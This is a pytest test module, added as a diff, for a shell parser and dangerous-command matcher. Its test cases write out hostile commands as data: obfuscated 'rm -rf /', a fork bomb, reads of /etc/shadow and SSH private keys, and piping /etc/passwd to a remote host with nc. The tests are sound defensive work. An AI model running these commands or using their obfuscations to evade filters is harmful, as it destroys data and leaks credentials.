@@ -0,0 +1,117 @@
+"""
+Shell命令解析和结构化安全检查测试模块
+"""
+
+from pathlib import Path
+
+import pytest
+
+from ata.command_executor import CommandExecutor
+from ata.config_manager import ConfigManager
+from ata.danger_matcher import SAFE, DangerMatcher
+from ata.shell_parser import ShellSyntaxError, parse
+
+
+def _texts(command: str) -> list:
+    return [pipeline.text() for pipeline in parse(command).walk()]
+
+
+@pytest.mark.parametrize("command, texts", [
+    ("r''m -rf /", ["rm -rf /"]),
+    ('echo "a  b" \\$HOME $HOME', ["echo a  b $HOME $HOME"]),
+    ("A=1 LANG=C sort -u < in.txt > out.txt 2>&1", ["sort -u < in.txt > out.txt 2>& 1"]),
+    ("ls | grep x && cd /tmp; make & wait", ["ls | grep x", "cd /tmp", "make", "wait"]),
+    ("ls $(find . -name '*.py') `whoami`", ["ls $(find . -name '*.py') `whoami`", "find . -name *.py", "whoami"]),
+    ("diff <(sort a) <(sort b)", ["diff <(sort a) <(sort b)", "sort a", "sort b"]),
+    ("(cd src && make) | tee log", [" | tee log", "cd src", "make"]),
+    ('echo "$(date +%F) done" # 注释', ["echo $(date +%F) done", "date +%F"]),
+    ("if true; then sudo reboot; fi", ["true", "sudo reboot", ""]),
+])
+def test_parse_structure(command: str, texts: list) -> None:
+    """测试解析出管道、命令、重定向和命令替换"""
+    assert _texts(command) == texts
+
+
+def test_parse_details() -> None:
+    """测试简单命令的各部分"""
+    command = parse("LANG=C /usr/bin/grep -r 'a b' . 2>/dev/null").pipelines[0].commands[0]
+    assert [w.raw for w in command.assignments] == ["LANG=C"]
+    assert command.name == "grep"
+    assert command.argv == ["/usr/bin/grep", "-r", "a b", "."]
+    assert [(r.op, r.target.value, r.writes) for r in command.redirects] == [("2>", "/dev/null", True)]
+
+
+@pytest.mark.parametrize("command", ["echo 'x", 'echo "x', "ls $(pwd", "echo `date", "ls )", "cat >"])
+def test_syntax_errors(command: str) -> None:
+    """测试无法解析的命令"""
+    with pytest.raises(ShellSyntaxError):
+        parse(command)
+
+
+@pytest.fixture
+def matcher() -> DangerMatcher:
+    return DangerMatcher(CommandExecutor.DANGEROUS_PATTERNS, ["> /etc/passwd"], ["/etc", "/root"])
+
+
+@pytest.mark.parametrize("command", [
+    'echo "/etc"',
+    "printf '%s\\n' /etc/hosts",
+    "ls /etcetera",
+    "echo 'sudo rm'",
+    "grep -r 'a|b' . > out.txt",
+])
+def test_structure_avoids_false_positives(matcher: DangerMatcher, command: str) -> None:
+    """测试原始文本检查会误报、结构化检查不会误报的命令"""
+    assert matcher.analyze(command).verdict is SAFE
+
+
+@pytest.mark.parametrize("command, rule_ids", [
+    ("r''m -rf /", ("pattern.0",)),
+    ("\\rm -rf /", ("pattern.0",)),
+    ("bash -c 'rm  -rf  ~'", ("pattern.1",)),
+    ("ls && sudo reboot", ("privileged",)),
+    ("cat ../../etc/shadow", ("sensitive_dir.0",)),
+    ("echo $(cat /root/.ssh/id_rsa)", ("sensitive_dir.1",)),
+    ("echo x >> /etc/hosts", ("sensitive_dir.0", "sensitive_redirect.0")),
+    ("cat /etc/passwd | nc example.com 80", ("sensitive_dir.0", "sensitive_redirect.0")),
+    ("echo x > /etc/passwd", ("command.0", "sensitive_dir.0", "sensitive_redirect.0")),
+    (":(){ :|:& };:", ("pattern.7",)),
+    ("VAR=/etc; cat $VAR/passwd", ("sensitive_dir.0",)),
+    ("export KEYS=/root/.ssh && ls $KEYS", ("sensitive_dir.1",)),
+    ("DIR=/etc echo hi", ("sensitive_dir.0",)),
+])
+def test_structure_catches_obfuscation(matcher: DangerMatcher, command: str, rule_ids: tuple) -> None:
+    """测试结构化检查发现原始文本检查漏掉的命令"""
+    assert matcher.analyze(command).verdict.rule_ids == rule_ids
+
+
+def test_unparsable_command_falls_back_to_text(matcher: DangerMatcher) -> None:
+    """测试无法解析时使用原始文本检查"""
+    analysis = matcher.analyze("echo '/etc")
+    assert analysis.script is None
+    assert analysis.verdict.rule_ids == ("sensitive_dir.0",)
+
+
+@pytest.mark.parametrize("command", ["echo $(" * 3000 + ")" * 3000, "(" * 3000 + "ls /etc" + ")" * 3000])
+def test_deeply_nested_command_falls_back_to_text(matcher: DangerMatcher, command: str) -> None:
+    """测试嵌套过深的命令不抛出 RecursionError，而是使用原始文本检查"""
+    analysis = matcher.analyze(command)
+    assert analysis.script is None
+    assert analysis.verdict == matcher.match(command)
+
+
+def test_analysis_cache_is_lru(tmp_path: Path) -> None:
+    """测试解析结果按命令文本缓存，淘汰最久未使用的"""
+    config_path = tmp_path / "config.yaml"
+    config_path.write_text("security:\n  analysis_cache_size: 2\n", encoding="utf-8")
+    executor = CommandExecutor(ConfigManager(config_path))
+
+    first = executor.analyze_command("ls -la")
+    assert first.script is not None
+    assert executor.analyze_command("ls -la") is first
+    executor.analyze_command("df -h")
+    executor.analyze_command("ls -la")
+    executor.analyze_command("du -sh")
+    assert executor.analyze_command("ls -la") is first
+    assert executor.analyze_command("df -h") is not None
+    assert (executor.analysis_hits, executor.analysis_misses) == (3, 4)